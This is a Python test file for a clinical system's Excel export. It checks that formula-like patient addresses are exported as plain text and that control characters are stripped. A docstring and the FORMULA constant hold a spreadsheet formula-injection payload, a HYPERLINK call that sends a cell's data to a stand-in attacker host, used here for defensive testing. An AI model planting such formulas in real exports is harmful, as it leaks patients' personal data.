"""Text that looks like a spreadsheet formula is exported as text, never as a formula; control
characters a spreadsheet cannot hold are dropped instead of failing the whole export.

A patient's address (free text) of ``=HYPERLINK("http://x/?"&C2, "ver")`` would otherwise
become a live formula in the supervisor's Excel: one click sends the row's personal data out
(Ley 29733)."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from central.reports.export import Sheet, to_xlsx
from edge.runtime import EdgeRuntime
from tests.edge.factories import auth_headers
from tests.edge.patients.helpers import register

FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"ver resultados")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


def test_edge_patient_export_keeps_a_formula_like_address_as_text(
    edge_client: TestClient, edge_runtime: EdgeRuntime
) -> None:
    reception = auth_headers(edge_runtime, "recepcionista")
    register(edge_client, reception, address=FORMULA)
    r = edge_client.get("/api/patients/export", headers=auth_headers(edge_runtime, "supervisor"))
    assert r.status_code == 200, r.text
    assert "<f>" not in _sheet_xml(r.content)
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=10)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_hub_report_xlsx_keeps_formula_like_text_as_text() -> None:
    content = to_xlsx(
        "Reporte",
        [Sheet("Órdenes", ["Paciente", "Total"], [[FORMULA, Decimal("10.00")], ["=1+1", 5]])],
    )
    assert "<f>" not in _sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert [(c.value, c.data_type) for c in sheet["A"][4:6]] == [(FORMULA, "s"), ("=1+1", "s")]
    assert sheet["B5"].value == 10.0


def test_control_characters_are_dropped_not_a_500(
    edge_client: TestClient, edge_runtime: EdgeRuntime
) -> None:
    content = to_xlsx(
        "Catálogo\x07",
        [Sheet("Exámenes", ["Código", "Nombre\x00"], [["HEM-001", "Hemo\x12grama\x1f completo"]])],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert [sheet["A1"].value, sheet["B4"].value, sheet["B5"].value] == [
        "Catálogo",
        "Nombre",
        "Hemograma completo",
    ]
    reception = auth_headers(edge_runtime, "recepcionista")
    register(edge_client, reception, address="Av. Los Álamos\x0b 123")
    r = edge_client.get("/api/patients/export", headers=auth_headers(edge_runtime, "supervisor"))
    assert r.status_code == 200, r.text
    edge_sheet = load_workbook(io.BytesIO(r.content)).active
    assert edge_sheet is not None
    assert edge_sheet.cell(row=2, column=10).value == "Av. Los Álamos 123"
